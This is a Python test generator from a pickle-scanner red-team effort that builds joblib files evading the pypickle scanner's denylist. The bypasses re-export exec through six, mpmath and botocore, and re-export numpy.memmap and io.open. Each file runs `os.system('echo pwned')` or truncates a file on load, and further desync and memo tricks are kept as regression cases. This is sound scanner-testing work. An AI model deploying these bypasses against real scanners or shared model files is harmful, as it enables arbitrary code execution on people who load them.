#!/usr/bin/env python3
"""Round 7 of joblib scanner red-teaming (after commit 7c7999e: numpy.memmap accepted as a
NumpyArrayWrapper's `subclass`, StringDType arrays laid out). Deterministic.

    python3 tests/joblib_bypasses/round7/make.py            # writes the files
    python3 tests/joblib_bypasses/round7/make.py --verify   # also loads each in a subprocess
                                                            # (temp dir; RUNS `echo pwned` or
                                                            # creates pwned.dat there)
    PYPICKLE=target/release/pypickle python3 .../make.py    # also scans each

bypass_*: scanned SAFE by pypickle at 7c7999e/50621ed and run a payload under joblib.load and
pickle.load. None needs the new relaxations: they are aliases the default policy's denylist
misses (builtins.exec re-exported as `exec_`, numpy.memmap / io.open re-exported elsewhere).

attempt_*: the relaxation-focused candidates that failed (the scanner says UNSAFE or ERROR);
kept as regression generators. `runs` in ATTEMPTS says whether the payload does run under
joblib.load (so the scanner's refusal matters).
"""
import os
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
VERIFY = "--verify" in sys.argv[1:]
PYPICKLE = os.environ.get("PYPICKLE")


sys.path.insert(0, os.path.join(HERE, "..", "tricks"))
from mk import MAKE_FILE, PAYLOAD, U1, state, G, GET, K, PUT, SU, U  # noqa: E402  (the opcode helpers of every round)

P2 = b"\x80\x02"
P4 = b"\x80\x04"
WRAPPER_CLS = G("joblib.numpy_pickle", "NumpyArrayWrapper")
OS_SYSTEM = PAYLOAD


def memmap_wrapper(subclass=None, shape=2, memo=0, state_memo=1, aligned=True):
    """A u1 wrapper (memo `memo`) whose state (memo `state_memo`) names numpy.memmap (memo 2)
    as its subclass, then its raw array."""
    if subclass is None:
        subclass = G("numpy", "memmap") + PUT(2)
    items = [("subclass", subclass), ("shape", K(shape) + b"\x85"), ("order", U("C")),
             ("dtype", U1), ("allow_mmap", b"\x89"),
             ("numpy_array_alignment_bytes", K(16) if aligned else b"N")]
    return (WRAPPER_CLS + b")\x81" + PUT(memo) + state(items, state_memo) + b"b"
            + (b"\x00" if aligned else b""))


def sd_dtype(): return G("numpy._core._internal", "_convert_to_stringdtype_kwargs") + b"(" + K(1) + b"tR"


def sd_wrapper(n):
    return (WRAPPER_CLS + b")\x81" + PUT(0) + state([
        ("subclass", G("numpy", "ndarray")), ("shape", K(n) + b"\x85"), ("order", U("C")),
        ("dtype", sd_dtype()), ("allow_mmap", b"\x89"), ("numpy_array_alignment_bytes", b"N")])
        + b"b")


def desync_region(n):
    """Read as a nested pickle by the scanner ("N." then BINBYTES covering what follows), as
    `n` raw bytes and then `0 os.system(...) .` by joblib if the dtype is really uint8."""
    hidden = b"0" + OS_SYSTEM + b"."
    cover = n - 2 - 5
    return b"N." + b"B" + struct.pack("<I", cover + len(hidden)) + b"\x00" * cover + hidden + b"0."


# ---------------------------------------------------------------- bypasses (SAFE, run)

BYPASSES = {
    # builtins.exec re-exported by six (installed with pandas, through python-dateutil).
    "bypass_six_exec.joblib":
        P2 + G("six", "exec_") + U("import os; os.system('echo pwned')") + b"\x85R.",
    # ... by mpmath (sympy's dependency).
    "bypass_mpmath_exec.joblib":
        P2 + G("mpmath.libmp.backend", "exec_") + U("import os; os.system('echo pwned')") + b"\x85R.",
    # ... by botocore's vendored six.
    "bypass_botocore_six_exec.joblib":
        P2 + G("botocore.vendored.six", "exec_") + U("import os; os.system('echo pwned')") + b"\x85R.",
    # numpy.memmap re-exported by scikit-learn's vendored array_api_compat: creates pwned.dat
    # (mode "w+" creates or truncates any file the process can write).
    "bypass_memmap_sklearn_alias.joblib":
        P2 + MAKE_FILE(G("sklearn.externals.array_api_compat.numpy", "memmap")) + b".",
    # ... by scipy's vendored copy.
    "bypass_memmap_scipy_alias.joblib":
        P2 + MAKE_FILE(G("scipy._lib.array_api_compat.numpy", "memmap")) + b".",
    # ... by numpy.matlib (`from numpy import *`; also load, save, fromfile, loadtxt...).
    "bypass_memmap_matlib.joblib":
        P2 + MAKE_FILE(G("numpy.matlib", "memmap")) + b".",
    # joblib's own wrapper around numpy.memmap.
    "bypass_make_memmap.joblib":
        P2 + MAKE_FILE(G("joblib.numpy_pickle", "make_memmap")) + b".",
    # io.open re-exported by tokenize: creates (truncates) pwned.dat.
    "bypass_tokenize_open.joblib":
        P2 + G("tokenize", "_builtin_open") + U("pwned.dat") + U("w") + b"\x86R.",
    # The same six.exec_ payload inside a real-looking joblib memmap dump (the relaxation
    # accepts the subclass, the alias does the rest).
    "bypass_six_exec_in_memmap_dump.joblib":
        P2 + b"(" + U("a") + memmap_wrapper() + b"\x07\x07" + U("b")
        + G("six", "exec_") + U("import os; os.system('echo pwned')") + b"\x85R" + b"d.",
}

# ---------------------------------------------------------------- attempts (not SAFE)

hidden_call = MAKE_FILE(GET(2))
ATTEMPTS = {
    # StringDType layout desync: rebind numpy._core._internal._convert_to_stringdtype_kwargs
    # to numpy.min_scalar_type by a BUILD on the module (dict state / slot state), so the
    # "StringDType" is uint8 and joblib reads raw bytes where the scanner reads a pickle.
    # joblib runs the payload; the scanner says ERROR (BUILD on a global may be a wrapper).
    "attempt_sd_rebind_module_build.joblib": (
        P2 + G("numpy._core", "_internal") + b"}" + U("_convert_to_stringdtype_kwargs")
        + G("numpy", "min_scalar_type") + b"sb0" + sd_wrapper(16) + desync_region(16), True),
    "attempt_sd_rebind_module_slotstate.joblib": (
        P2 + G("numpy._core", "_internal") + b"N}" + U("_convert_to_stringdtype_kwargs")
        + G("numpy", "min_scalar_type") + b"s\x86b0" + sd_wrapper(16) + desync_region(16), True),
    # Plain pickle.load: the raw array bytes are opcodes that GET the memmap and call it.
    "attempt_memmap_plain_array_bytes_call.joblib": (
        P2 + memmap_wrapper(shape=60, aligned=False) + b"0" + hidden_call + b"." + b"\x00" * 4, False),
    # STACK_GLOBAL with memoized names, the reference DUP'd: one copy in 'subclass', the
    # other handed to starmap after the array.
    "attempt_memmap_stack_global_dup.joblib": (
        P4 + SU("numpy") + PUT(5) + SU("memmap") + PUT(6) + b"\x93" + b"2" + PUT(7) + b"0"
        + memmap_wrapper(subclass=b"h\x07" + PUT(2)) + b"\x07\x07" + b"0" + MAKE_FILE(GET(7)) + b".",
        True),
    # Protocol 0 text memo: PUT ' 2' for the reference, GET '02' later (same key).
    "attempt_memmap_text_memo.joblib": (
        P2 + memmap_wrapper(subclass=G("numpy", "memmap") + b"p 2 \n") + b"\x07\x07" + b"0"
        + MAKE_FILE(b"g02\n") + b".", True),
    # The wrapper built a second time (its state dict given twice).
    "attempt_memmap_wrapper_built_twice.joblib": (
        P2 + memmap_wrapper() + b"\x07\x07" + b"0" + GET(0) + GET(1) + b"b" + b"\x00\x07\x07" + b"0N.",
        False),
    # The state dict given to a second wrapper.
    "attempt_memmap_dict_two_wrappers.joblib": (
        P2 + memmap_wrapper() + b"\x07\x07" + b"0" + WRAPPER_CLS + b")\x81" + GET(1) + b"b"
        + b"\x00\x07\x07" + b"0N.", False),
    # Stacked pickles: joblib reads the first; the second uses its own numpy.memmap.
    "attempt_memmap_stacked_second.joblib": (
        P2 + memmap_wrapper() + b"\x07\x07" + b"." + P2 + MAKE_FILE(G("numpy", "memmap")) + b".", False),
    # The memmap reference is the value of 'subclass' in a dict that is later ALSO used as
    # a plain SETITEMS target with a call result after the wrapper's BUILD.
    "attempt_memmap_dict_reused_as_target.joblib": (
        P2 + memmap_wrapper() + b"\x07\x07" + b"0" + GET(1) + U("x") + MAKE_FILE(GET(2)) + b"s.", True),
}


def write(name, data):
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data)


def run(name, loader, mmap=None):
    path = os.path.join(HERE, name)
    if loader == "joblib":
        code = f"import joblib; joblib.load({path!r}{', mmap_mode=%r' % mmap if mmap else ''})"
    else:
        code = f"import pickle; pickle.load(open({path!r}, 'rb'))"
    with tempfile.TemporaryDirectory() as tmp:
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=tmp)
        return os.path.exists(os.path.join(tmp, "pwned.dat")) or "pwned" in done.stdout


def scan(name):
    r = subprocess.run([PYPICKLE, "scan", "-q", os.path.join(HERE, name)],
                       capture_output=True, text=True)
    return {0: "SAFE", 1: "UNSAFE", 2: "ERROR"}.get(r.returncode, str(r.returncode))


def main():
    for name, data in BYPASSES.items():
        write(name, data)
    for name, (data, _) in ATTEMPTS.items():
        write(name, data)
    for name in list(BYPASSES) + list(ATTEMPTS):
        line = name
        if PYPICKLE:
            line += f"  scan={scan(name)}"
        if VERIFY:
            ran = {"joblib": run(name, "joblib"), "joblib_mmap_r": run(name, "joblib", "r"),
                   "pickle": run(name, "pickle")}
            line += "  ran=" + ",".join(k for k, v in ran.items() if v) if any(ran.values()) \
                else "  ran=none"
        print(line)


if __name__ == "__main__":
    main()
